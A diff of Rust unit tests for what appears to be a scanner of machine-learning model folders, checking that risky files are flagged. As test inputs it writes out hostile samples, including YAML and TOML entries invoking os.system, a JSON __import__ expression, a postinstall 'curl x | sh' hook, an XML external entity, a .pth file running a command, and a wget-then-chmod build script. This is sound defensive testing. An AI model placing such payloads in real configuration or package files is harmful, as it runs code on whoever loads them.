@@ -185,15 +185,57 @@ fn weights_and_configurations() {
         br#"{"chat_template": [{"name": "x", "template": "{{ a }}"}]}"#,
         &[],
     );
-    check("config.yaml", b"a:\n  _target_: os.system\n", &["config/target"]);
-    check("config.yaml", b"a: !!python/object/apply:os.system [id]\n", &["config/target"]);
+    check("config.yaml", b"a:\n  _target_: os.system\n", &["config/target-harms"]);
+    check("config.yaml", b"a: !!python/object/apply:os.system [id]\n", &["config/target-harms"]);
     check("config.yaml", b"a:\n  _target_: torch.nn.Linear\n", &[]);
+    check("config.yaml", b"a: '!!python/name:os.system' # !!python/name:x\n", &[]);
+    check("config.yaml", b"a: {_target_: mine.Thing}\n", &["config/target"]);
+    check("c.toml", b"[a]\n_target_ = 'os.system'\n", &["config/target-harms"]);
+    check(
+        "c.json",
+        br#"{"a": "$__import__('os').system('x')", "b": "$x"}"#,
+        &["config/expression"],
+    );
+    check(
+        "package.json",
+        br#"{"scripts": {"postinstall": "curl x | sh"}}"#,
+        &["config/expression"],
+    );
+    let wide: Vec<u8> =
+        "\u{feff}a: !!python/name:os.system\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    check("u.yaml", &wide, &["config/target-harms"]);
+    check("x.pmml", b"<?xml?><!DOCTYPE a [<!ENTITY x SYSTEM 'y'>]>", &["xml/external-entity"]);
+    check(
+        "x.pth",
+        b"import os; os.system('x')\n",
+        &["python/runs-at-start", "python/runs-program"],
+    );
+    check("x.pth", b"../src\n", &[]);
+    check("requirements.txt", b"a\n--index-url http://x\n", &["python/package-source"]);
+    let schema = br#"{"__module__": "os", "__class__": "system", "__loader__": "TypeNode"}"#;
+    check("m.skops", &Zip::new().add("schema.json", schema).end(), &["skops/dangerous-type"]);
+    check("build.sh", b"mkdir x\nwget -O x/y http://z\nls\n", &["file/script"]);
+    let runs = b"wget -O x/y http://z\nchmod +x x/y\n";
+    check("build.sh", runs, &["file/script", "shell/fetches-and-runs"]);
     check("modeling.py", b"import os\n", &[]);
     check("README.md", "# Wörter\n\nand `__class__`.\n".as_bytes(), &[]);
-    check("run", b"#!/bin/sh\n", &["file/program"]);
+    check("run", b"#!/bin/sh\n", &["file/script"]);
     check("model.keras.h5", b"\x89HDF\r\n\x1a\n0123", &["hdf5/not-read"]);
     check("x.bin", &[0xfe, 0x13, 0x80, 0x99, 0xff], &["format/not-read"]);
     check("empty", b"", &[]);
+}
+
+#[test]
+fn numbers_beside_a_model_belong_to_it() {
+    let folder = tempfile::tempdir().unwrap();
+    fs::write(folder.path().join("m.xml"), "<?xml version=\"1.0\"?><net/>").unwrap();
+    for name in ["m.bin", "other.bin"] {
+        fs::write(folder.path().join(name), [0xfe, 0x13, 0x80, 0x99, 0xff]).unwrap();
+    }
+    let scanned = scan(folder.path(), &|_, _| {}).unwrap();
+    let verdicts: Vec<_> = scanned.iter().map(|one| (one.path.as_str(), one.verdict)).collect();
+    let (clean, unread) = (Verdict::Clean, Verdict::Unread);
+    assert_eq!(verdicts, [("m.bin", clean), ("m.xml", clean), ("other.bin", unread)]);
 }
 
 #[cfg(unix)]
